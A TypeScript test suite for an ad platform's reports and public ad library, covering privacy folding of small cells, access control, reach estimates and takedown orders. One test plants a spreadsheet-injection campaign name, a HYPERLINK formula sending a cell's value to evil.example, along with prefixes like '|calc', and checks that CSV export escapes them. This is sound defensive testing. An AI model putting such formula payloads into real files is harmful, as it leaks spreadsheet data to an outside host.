// What is told of ads after they were shown: reports to advertisers, the library to everybody.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { AdLibraryPage } from '@jhalak/contracts/ad-library';
import {
  REPORT_FLOOR,
  type ReachEstimate,
  type Report,
  type ReportFigures,
} from '@jhalak/contracts/ad-reports';
import type { Campaign, Creative, LineItem } from '@jhalak/contracts/ads';
import type { Order, OrderRecord } from '@jhalak/contracts/orders';
import type { AuctionTerms } from '@jhalak/openrtb';
import fc from 'fast-check';
import { add, fold, NO_FIGURES, type Atom } from '../src/reports/fold.ts';
import type { SeatAd } from '../src/receipts/receipts.ts';
import { reportCsv } from '../src/reports/csv.ts';
import { CARD, openAdsHouse, type AdsHouse } from './ads.fixture.ts';

const HOUR_MS = 3_600_000;
const DAY_MS = 24 * HOUR_MS;
const NO_ID = '00000000-0000-0000-0000-000000000000';

let house: AdsHouse;
let campaign: Campaign;
let line: LineItem;
let card: Creative;
let hourMs: number;
before(async () => {
  house = await openAdsHouse();
  const { cell, tea, operator, reviewer, call } = house;
  campaign = await house.campaign(tea, 'tea-house');
  line = await house.lineItem(tea, campaign);
  card = await house.creative(tea, 'tea-house');
  await call(tea, 'POST', `/advertisers/tea-house/creatives/${card.id}/submit`);
  await approve(card);
  await call(operator, 'POST', '/advertisers/tea-house/verdict', {
    ...{ verdict: 'verified', note: 'seen', version: 1 },
  });
  assert.ok(reviewer.token);
  hourMs = Math.floor(cell.parts.clock.nowMs() / HOUR_MS) * HOUR_MS;
});
after(async () => {
  await house.cell.close();
});

async function approve({ id, version }: Creative): Promise<void> {
  const verdict = { verdict: 'approved', version };
  const said = await house.call(house.reviewer, 'POST', `/reviews/tea-house/${id}`, verdict);
  assert.equal(said.status, 200);
}

interface Fact extends Partial<ReportFigures> {
  organisation?: string;
  hour?: number;
  creative?: string;
  placement?: string;
  language?: string;
  state?: string;
}

/** Writes what billing writes, one statement a fact. */
async function happened(facts: readonly Fact[]): Promise<void> {
  for (const fact of facts) {
    const seat = fact.organisation?.startsWith('seat:') === true;
    await house.cell.parts.database.query(
      {
        name: 'test.fact',
        text: `INSERT INTO ad_facts (organisation, hour_ms, campaign_id, line_item_id, creative, placement, language, genre,
            state, shown, viewable, clicks, conversions, reach, hides, reports, billed_events, spend, given_events)
          VALUES ($1, $2, $3, $4, $5, $6, $7, '', $8, $9, $10, $11, 0, $12, 0, 0, 0, $13, 0)`,
      },
      [
        ...[fact.organisation ?? 'tea-house', fact.hour ?? hourMs, seat ? NO_ID : campaign.id],
        ...[seat ? NO_ID : line.id, fact.creative ?? card.id, fact.placement ?? 'feed'],
        ...[fact.language ?? 'hi', fact.state ?? '', fact.shown ?? 0, fact.viewable ?? 0],
        ...[fact.clicks ?? 0, fact.reach ?? 0, fact.spend ?? 0],
      ],
    );
  }
}

const span = () => `fromMs=${hourMs - 3 * DAY_MS}&untilMs=${hourMs + DAY_MS}`;
const report = async (query: string, who = house.tea, organisation = 'tea-house') =>
  await house.call<Report>(who, 'GET', `/advertisers/${organisation}/report?${span()}&${query}`);

async function sweep(name: string): Promise<void> {
  const sweeps = house.cell.cell.features.flatMap((feature) => feature.sweeps);
  await sweeps.find((one) => one.name === name)?.run();
}

test('whatever is folded, figures sum to the same, and no small cell is told or can be worked out', () => {
  const atom = fc.record({
    group: fc.constantFrom('a', 'b', 'c'),
    shown: fc.integer({ min: 0, max: 200 }),
  });
  fc.assert(
    fc.property(fc.array(atom, { maxLength: 40 }), (made) => {
      const atoms: Atom[] = made.map(({ group, shown }, at) => ({
        ...{ group, audience: `x${at}`, figures: { ...NO_FIGURES, shown, spend: shown * 3 } },
      }));
      const told = fold(atoms);
      const sum = (all: readonly Atom[]) => all.map((one) => one.figures).reduce(add, NO_FIGURES);
      assert.deepEqual(sum(told), sum(atoms));
      for (const group of ['a', 'b', 'c']) {
        const mine = told.filter((one) => one.group === group);
        const open = mine.filter(({ audience }) => audience !== 'other');
        assert.ok(open.every(({ figures }) => figures.shown >= REPORT_FLOOR));
        const folded = sum(mine.filter(({ audience }) => audience === 'other')).shown;
        assert.ok(folded === 0 || folded >= REPORT_FLOOR || open.length === 0, `${folded} folded`);
      }
      assert.deepEqual(fold(atoms.toReversed()).toSorted(byName), told.toSorted(byName));
    }),
  );
});

const byName = (one: Atom, other: Atom) => (nameOf(one) < nameOf(other) ? -1 : 1);
const nameOf = ({ group, audience, figures }: Atom) => `${group} ${audience} ${figures.shown}`;

test('a report tells what was billed, by every dimension, and the rows sum to the total', async () => {
  await happened([
    { shown: 400, viewable: 300, clicks: 9, reach: 120, spend: 4_800, state: 'IN-MH' },
    { shown: 90, viewable: 60, clicks: 1, reach: 30, spend: 1_081, state: 'IN-KA' },
    { shown: 7, viewable: 7, reach: 7, spend: 84, state: 'IN-GA' },
    { shown: 50, viewable: 20, reach: 9, spend: 600, state: 'IN-MH', placement: 'lock' },
    { shown: 60, hour: hourMs - DAY_MS, reach: 60, spend: 720, language: 'ta', state: 'IN-TN' },
    { organisation: 'seat:alpha', creative: 'crid-1', shown: 70, viewable: 70, spend: 900 },
  ]);
  const whole = await report('');
  assert.equal(whole.status, 200);
  const total = {
    shown: 607,
    viewable: 387,
    clicks: 10,
    conversions: 0,
    reach: 226,
    spend: 7_285,
    reversed: 0,
  };
  assert.deepEqual(whole.body.total, total);
  for (const by of [
    'day',
    'hour',
    'campaign,creative',
    'lineItem',
    'placement',
    'state',
    'language,day',
  ]) {
    const { body, status } = await report(`by=${by}`);
    assert.equal(status, 200, by);
    const sum = body.rows.reduce<ReportFigures>(add, NO_FIGURES);
    assert.deepEqual([sum, body.total], [total, total], by);
  }
  const named = (await report('by=campaign,creative')).body.rows[0];
  assert.deepEqual(named?.names, { campaign: 'Monsoon', creative: 'Card one' });
  assert.equal((await report(`by=day&placement=lock`)).body.total.spend, 600);
});

test('small cells are told together with the next larger one, and no question takes them apart', async () => {
  const { body } = await report('by=state');
  const states = body.rows.map(({ keys, shown }) => [keys['state'], shown]);
  assert.deepEqual(states, [
    ['IN-MH', 450],
    ['IN-TN', 60],
    ['other', 97],
  ]);
  for (const [query, code] of [
    ['by=state,language', 'request.invalid'],
    ['by=state,hour', 'request.invalid'],
    ['by=state,state', 'request.invalid'],
    ['by=organisation,sql', 'request.invalid'],
  ] as const)
    assert.equal((await report(query)).body.code, code, query);
  const { call, tea } = house;
  const part = `fromMs=${hourMs + HOUR_MS}&untilMs=${hourMs + 2 * HOUR_MS}`;
  const asked = await call<Report>(tea, 'GET', `/advertisers/tea-house/report?${part}&by=state`);
  assert.equal(asked.body.total.shown, 547, 'a part of a day is the whole day');
  assert.equal(asked.body.untilMs - asked.body.fromMs, DAY_MS, 'and says so');
});

test('an advertiser reads its own figures only, the operator everybody’s with those of seats', async () => {
  assert.deepEqual((await report('by=day', house.rival, 'rival-shop')).body.rows, []);
  assert.equal((await report('', house.rival)).status, 403);
  const path = `/report?${span()}&by=organisation`;
  assert.equal((await house.call(house.tea, 'GET', path)).status, 403);
  const all = await house.call<Report>(house.operator, 'GET', path);
  assert.deepEqual(
    all.body.rows.map(({ keys, spend }) => [keys['organisation'], spend]),
    [
      ['seat:alpha', 900],
      ['tea-house', 7_285],
    ],
  );
});

test('a file for spreadsheets holds exact money, and no name in it is a formula', async () => {
  const { tea, cell } = house;
  const name = '=HYPERLINK("https://evil.example?"&A1,"more")';
  await house.call(tea, 'PATCH', `/advertisers/tea-house/campaigns/${campaign.id}`, { name });
  const reply = await fetch(
    `${cell.url}/v1/ads/advertisers/tea-house/report?${span()}&by=campaign&format=csv`,
    { headers: { authorization: `Bearer ${tea.token}` } },
  );
  assert.match(reply.headers.get('content-type') ?? '', /^text\/csv/);
  assert.match(reply.headers.get('content-disposition') ?? '', /^attachment/);
  const text = await reply.text();
  assert.ok(text.includes(`"'=HYPERLINK(""https://evil.example?""&A1,""more"")"`), text);
  assert.ok(text.includes(',226,"72.85","0.00"\r\n'), text);
  const base = (await report('by=campaign')).body;
  for (const evil of ['+1', '-1', '@x', '\t=1', '＝1', '|calc']) {
    const rows = base.rows.map((row) => ({ ...row, names: { campaign: evil } }));
    assert.ok(reportCsv({ ...base, rows }).includes(`"'${evil}"`), evil);
  }
});

test('reach is of real people, rounded, and small audiences are not told', async () => {
  const { call, tea, cell } = house;
  const ask = async (body: object) =>
    (await call<ReachEstimate>(tea, 'POST', '/advertisers/tea-house/reach-estimate', body)).body;
  assert.deepEqual((await ask({ languages: ['ta'] })).people, undefined);
  const nowMs = cell.parts.clock.nowMs();
  await cell.parts.database.query(
    {
      name: 'test.people',
      text: `WITH made AS (INSERT INTO persons (person_id, created_at_ms, languages, genres, age_band, consent_ads, sample)
          SELECT gen_random_uuid(), $1, CASE WHEN n % 2 = 0 THEN '{ta}' ELSE '{hi}' END::text[],
            CASE WHEN n % 4 = 0 THEN '{food}' ELSE '{music}' END::text[], '18plus', n % 8 = 0, false
          FROM generate_series(1, 8100) n RETURNING person_id)
        INSERT INTO person_activity (person_id, last_active_at_ms) SELECT person_id, $1 FROM made`,
    },
    [nowMs],
  );
  assert.equal((await ask({ languages: ['ta'] })).people, 4_100, 'of 4,050');
  assert.equal((await ask({ languages: ['ta'], genres: ['food'] })).people, 2_000, 'of 2,025');
  assert.equal((await ask({ interests: ['food'] })).people, 1_000, 'only who agreed to it');
  const far = await ask({ states: ['IN-MH'] });
  assert.deepEqual(far.unknown, ['states'], 'too few showings say where people are');
});

test('the library has every ad that was shown, in the words that were shown, for everybody', async () => {
  const { cell, call, tea } = house;
  const keptMs = cell.parts.clock.nowMs();
  const seatAd: SeatAd = {
    ...{ seat: 'alpha', creative: 'crid-1', domain: 'shoes.example', sponsor: 'Shoes' },
    ...{ title: 'Light shoes', text: 'For runners', kind: 'native', url: 'https://shoes.example/' },
  };
  const request = { id: 'r', at: 1, imp: [{ id: 's', native: { request: '{"assets":[]}' } }] };
  const terms: AuctionTerms = {
    ...{ request, answers: [], deadlineAtMs: keptMs, currency: 'INR', deals: 'first' },
    tieKey: Buffer.alloc(16),
  };
  const outcome = { slots: [{ impId: 's', winner: undefined }], lost: [] };
  const id = cell.parts.ids.next();
  await cell.cell.ads.receipts.keep({ id, terms, outcome, seatAd });
  await sweep('ads.library');
  const library = async (query = '') =>
    (await cell.api<AdLibraryPage>('GET', `/v1/ads/library?${query}`)).body;
  const { items, currency } = await library();
  assert.deepEqual([items.length, currency], [2, 'INR']);
  const own = items.find((one) => one.seat === undefined);
  assert.deepEqual(own?.content, { kind: 'native', title: CARD.title, text: CARD.text });
  assert.deepEqual(own?.advertiser, {
    ...{ organisation: 'tea-house', name: 'tea-house', legalName: 'tea-house Ltd' },
    ...{ verified: true, domain: 'tea.example.in' },
  });
  assert.deepEqual(
    [own?.shown, own?.reach],
    [
      { from: 0, below: 1_000 },
      { from: 0, below: 1_000 },
    ],
  );
  assert.deepEqual([own?.placements, own?.targeting.length], [['feed', 'lock'], 1]);
  const outside = items.find((one) => one.seat === 'alpha');
  assert.deepEqual([outside?.sponsor, outside?.advertiser.verified], ['Shoes', false]);
  for (const [query, count] of [
    ['q=SHOES+runners', 1],
    ['q=ltd', 1],
    ['q=50%25', 0],
    ['placement=lock', 1],
    ['language=ta', 1],
    ['state=IN-GA', 1],
    ['organisation=rival-shop', 0],
    ['kind=native', 2],
    [`untilMs=${hourMs - 2 * DAY_MS}`, 0],
  ] as const)
    assert.equal((await library(query)).items.length, count, query);
  const first = await library('limit=1');
  const second = await library(`limit=1&cursor=${first.next}`);
  assert.notEqual(first.items[0]?.id, second.items[0]?.id);
  const changed = { content: { ...CARD, title: 'Quite another tea' } };
  await call(tea, 'PATCH', `/advertisers/tea-house/creatives/${card.id}`, changed);
  await sweep('ads.library');
  assert.ok((await library('q=fresh')).items.length === 1, 'what people saw stays as they saw it');
  assert.equal((await library('q=quite')).items.length, 0, 'what nobody saw is not there');
  // Whoever pays is found by the names of now, beside the words of then.
  const named = { legalName: 'Kettle & Sons' };
  assert.equal((await call(tea, 'PATCH', '/advertisers/tea-house', named)).status, 200);
  assert.equal((await library('q=kettle%20fresh')).items.length, 1);
  assert.equal((await library('q=kettle%20nowhere')).items.length, 0);
});

test('an ad that an order hides is in the library without its content', async () => {
  const { cell } = house;
  const officers = [await cell.account('legal_one'), await cell.account('legal_two')] as const;
  for (const { personId } of officers)
    await cell.cell.accounts.grantRole({ personId, role: 'legal_officer' });
  const [first, second] = officers;
  const entered = await cell.api<Order>('POST', '/v1/orders', {
    token: first.token,
    body: {
      ...{ authority: 'Ministry of Tests', law: 's69a', reference: 'T/1', text: 'Block it.' },
      ...{ interim: false, emergency: false, confidential: true },
      receivedAtMs: cell.parts.clock.nowMs(),
      targets: [{ kind: 'card', id: card.id }],
    },
  });
  assert.equal(entered.status, 201, JSON.stringify(entered.body));
  const path = `/v1/orders/${entered.body.id}`;
  const { body } = await cell.api<OrderRecord>('GET', path, second);
  const approval = body.order.approvals.find(({ act }) => act === 'release');
  const done = await cell.api('POST', `${path}/approvals/${approval?.id}`, {
    ...{ token: second.token, body: { digest: approval?.digest } },
  });
  assert.equal(done.status, 201, JSON.stringify(done.body));
  await cell.drain();
  const page = await cell.api<AdLibraryPage>('GET', '/v1/ads/library?organisation=tea-house');
  assert.deepEqual(
    page.body.items.map(({ sponsor, content }) => [sponsor, content]),
    [[CARD.sponsor, undefined]],
  );
});
